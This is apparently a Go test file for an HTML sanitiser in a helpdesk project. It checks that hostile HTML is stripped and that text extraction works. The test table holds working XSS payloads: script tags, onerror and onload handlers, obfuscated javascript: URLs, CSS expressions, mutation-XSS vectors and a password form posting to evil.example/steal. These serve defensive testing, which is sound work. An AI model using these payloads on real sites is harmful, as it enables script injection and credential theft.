package htmlsafe_test

import (
	"strings"
	"testing"

	"golang.org/x/net/html"
	"golang.org/x/net/html/atom"

	"github.com/centerdesk/centerdesk/internal/htmlsafe"
)

// hostile is HTML that tries to run script, load things or restyle the
// page, with what must survive of it and what must not.
var hostile = []struct {
	name, in   string
	want, deny []string
}{
	{name: "script", in: `<p>Hello<script>alert(1)</script></p>`,
		want: []string{"<p>Hello</p>"}, deny: []string{"script", "alert"}},
	{name: "onerror", in: `<img src=x onerror=alert(1)><b onmouseover="alert(1)">bold</b>`,
		want: []string{"<b>bold</b>"}, deny: []string{"onerror", "onmouseover", "alert"}},
	{name: "javascript url", in: `<a href="javascript:alert(1)">a</a><a href=" JaVaScRiPt:alert(1)">b</a>` +
		`<a href="jav&#x09;ascript:alert(1)">c</a><a href="data:text/html;base64,PHNjcmlwdD4=">d</a>`,
		deny: []string{"javascript", "href", "data:"}},
	{name: "vbscript and relative links", in: `<a href="vbscript:x">a</a><a href="/admin/users">b</a>`,
		deny: []string{"href"}},
	{name: "svg", in: `<svg onload=alert(1)><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a>` +
		`<foreignObject><img src=x onerror=alert(4)></foreignObject></svg><p>after</p>`,
		want: []string{"<p>after</p>"}, deny: []string{"svg", "alert", "onload", "xlink"}},
	{name: "svg image", in: `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
		deny: []string{"svg", "data:"}},
	{name: "style expressions", in: `<p style="color: red; width: expression(alert(1)); ` +
		`background: url(javascript:alert(1)); position: fixed; behavior: url(x.htc)">styled</p>`,
		want: []string{`<p style="color: red">styled</p>`}, deny: []string{"expression", "url(", "position", "behavior"}},
	{name: "style element", in: `<style>body{display:none}</style><div style="display:none">hidden</div>`,
		want: []string{"<div>hidden</div>"}, deny: []string{"style", "display"}},
	{name: "remote image", in: `<img src="https://tracker.example.com/p.gif?u=1" alt="logo"><img src="//cdn.example.com/x.png">`,
		want: []string{`data-remote-src="https://tracker.example.com/p.gif?u=1"`, `data-remote-src="https://cdn.example.com/x.png"`, `alt="logo"`},
		deny: []string{" src="}},
	{name: "remote src given", in: `<img data-remote-src="javascript:alert(1)"><img data-remote-src="https://a.example/x.png">`,
		want: []string{`<img data-remote-src="https://a.example/x.png"/>`}, deny: []string{"javascript"}},
	{name: "allowed images", in: `<img src="cid:part1.abc@example.com"><img src="data:image/png;base64,iVBORw0KGgo=">` +
		`<img src="/api/v1/attachments/42">`,
		want: []string{`src="cid:part1.abc@example.com"`, `src="data:image/png;base64,iVBORw0KGgo="`, `src="/api/v1/attachments/42"`}},
	{name: "other image sources", in: `<img src="/admin/delete"><img src="file:///etc/passwd"><img src="data:image/png;base64,!!!">`,
		deny: []string{"src", "<img"}},
	{name: "nested forms", in: `<form action="https://evil.example/steal"><form><input name="password">` +
		`<button formaction="javascript:alert(1)">Sign in</button><textarea>t</textarea></form></form>`,
		want: []string{"Sign in"}, deny: []string{"form", "input", "button", "action", "javascript", "textarea"}},
	{name: "frames and objects", in: `<iframe src="https://evil.example"></iframe><object data="x.swf"></object>` +
		`<embed src="x.swf"><frameset><frame src="x"></frameset>`,
		deny: []string{"iframe", "object", "embed", "frame", "evil", "swf"}},
	{name: "meta and base", in: `<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/">` +
		`<link rel="stylesheet" href="https://evil.example/x.css">text`,
		want: []string{"text"}, deny: []string{"meta", "base", "link", "evil"}},
	{name: "dom clobbering", in: `<p id="csrf_token" class="admin-only" name="x">p</p>`,
		want: []string{"<p>p</p>"}, deny: []string{"id=", "class=", "name="}},
	{name: "mutation", in: `<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>` +
		`<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		deny: []string{"onerror", "<img", "<math", "<style"}},
	{name: "comments and cdata", in: `<!--<img src=x onerror=alert(1)>--><![CDATA[<script>alert(1)</script>]]>ok`,
		want: []string{"ok"}, deny: []string{"onerror", "<script", "<img"}},
	{name: "links without a host", in: `<A href="https://#">a</A><a href="https://?x">b</a><a href="http:///evil.example">c</a>` +
		`<a href="https://@">d</a><a href="HTTPS://:443/x">e</a>`,
		want: []string{"a", "b", "c", "d", "e"}, deny: []string{"href", "evil"}},
	{name: "links", in: `<a href="https://example.com/a?b=1&amp;c=2" target="_self" rel="opener">site</a> <a href="mailto:ada@example.com">mail</a>`,
		want: []string{`href="https://example.com/a?b=1&amp;c=2"`, `target="_blank"`, "nofollow", "noopener", `href="mailto:ada@example.com"`},
		deny: []string{"_self", `rel="opener"`}},
	{name: "formatting survives", in: `<h1>T</h1><ul><li>one</li></ul><table><tr><td colspan="2">c</td></tr></table><blockquote>q</blockquote><pre>code</pre>`,
		want: []string{"<h1>T</h1>", "<li>one</li>", `<td colspan="2">c</td>`, "<blockquote>q</blockquote>", "<pre>code</pre>"}},
}

func TestSanitizeHostileHTML(t *testing.T) {
	for _, tc := range hostile {
		t.Run(tc.name, func(t *testing.T) {
			out := htmlsafe.Sanitize(tc.in)
			for _, w := range tc.want {
				if !strings.Contains(out, w) {
					t.Errorf("lost %q:\n%s", w, out)
				}
			}
			low := strings.ToLower(out)
			for _, d := range tc.deny {
				if strings.Contains(low, strings.ToLower(d)) {
					t.Errorf("kept %q:\n%s", d, out)
				}
			}
			checkInert(t, out)
			if again := htmlsafe.Sanitize(out); again != out {
				t.Errorf("sanitising twice changes the result:\n%s\n%s", out, again)
			}
		})
	}
}

// inert lists the elements sanitised HTML may contain.
var inert = map[string]bool{}

func init() {
	for _, e := range strings.Fields(`p br div span hr wbr h1 h2 h3 h4 h5 h6 b i u s strike em strong small big
		sub sup code pre tt kbd samp var abbr cite dfn mark q blockquote del ins figure figcaption section article
		aside hgroup summary center address caption details ul ol li dl dt dd table thead tbody tfoot tr td th col
		colgroup a img`) {
		inert[e] = true
	}
}

// checkInert parses out as a browser would and fails on anything that can
// run script or load from elsewhere without consent.
func checkInert(t *testing.T, out string) {
	t.Helper()
	nodes, err := html.ParseFragment(strings.NewReader(out), &html.Node{Type: html.ElementNode, Data: "body", DataAtom: atom.Body})
	if err != nil {
		t.Fatal(err)
	}
	var walk func(*html.Node)
	walk = func(n *html.Node) {
		if n.Type == html.ElementNode {
			if !inert[n.Data] || n.Namespace != "" {
				t.Errorf("element %s %s survived: %s", n.Namespace, n.Data, out)
			}
			for _, a := range n.Attr {
				v := strings.ToLower(a.Val)
				switch {
				case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "formaction", a.Key == "id", a.Key == "class":
					t.Errorf("attribute %s survived: %s", a.Key, out)
				case a.Key == "href" && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "mailto:"):
					t.Errorf("href %q survived", a.Val)
				case a.Key == "src" && !strings.HasPrefix(v, "cid:") && !strings.HasPrefix(v, "data:image/") && !strings.HasPrefix(v, "/api/v1/attachments/"):
					t.Errorf("src %q survived", a.Val)
				case a.Key == "style" && (strings.Contains(v, "(") || strings.Contains(v, "position")):
					t.Errorf("style %q survived", a.Val)
				}
			}
		}
		for c := n.FirstChild; c != nil; c = c.NextSibling {
			walk(c)
		}
	}
	for _, n := range nodes {
		walk(n)
	}
}

func TestText(t *testing.T) {
	cases := []struct{ name, in, want string }{
		{"paragraphs", `<p>Hello  <b>there</b>,</p><p>second
			line</p>`, "Hello there,\n\nsecond line"},
		{"breaks", `one<br>two<br><br>three`, "one\ntwo\n\nthree"},
		{"lists", `<p>Steps:</p><ul><li>first</li><li>second</li></ul>`, "Steps:\n\n- first\n- second"},
		{"links", `See <a href="https://example.com/x">the docs</a> or <a href="https://example.com">https://example.com</a>.`,
			"See the docs (https://example.com/x) or https://example.com."},
		{"mailto", `Write to <a href="mailto:ada@example.com">ada@example.com</a>`, "Write to ada@example.com"},
		{"images", `<img alt="Screenshot of the error"> <img src="cid:x">`, "[image: Screenshot of the error] [image]"},
		{"hidden content", `<style>p{}</style><script>x()</script><title>T</title>visible`, "visible"},
		{"entities", `Fish &amp; chips &lt;3`, "Fish & chips <3"},
		{"table", `<table><tr><td>a</td><td>b</td></tr><tr><td>c</td><td>d</td></tr></table>`, "a b\nc d"},
		{"pre", `<p>Log:</p><pre>line 1
  line 2
</pre><p>end</p>`, "Log:\n\nline 1\n  line 2\n\nend"},
		{"empty", `<p> </p><div></div>`, ""},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if got := htmlsafe.Text(tc.in); got != tc.want {
				t.Errorf("Text(%q)\n got %q\nwant %q", tc.in, got, tc.want)
			}
		})
	}
}

// TestTextOfSanitized checks that text derived from sanitised hostile HTML
// holds none of what a browser would not show (script, style sheets).
func TestTextOfSanitized(t *testing.T) {
	for _, tc := range hostile {
		text := htmlsafe.Text(htmlsafe.Sanitize(tc.in))
		if strings.Contains(text, "alert(2)") || strings.Contains(text, "display:none") || strings.Contains(text, "<script") {
			t.Errorf("%s: text %q", tc.name, text)
		}
	}
}
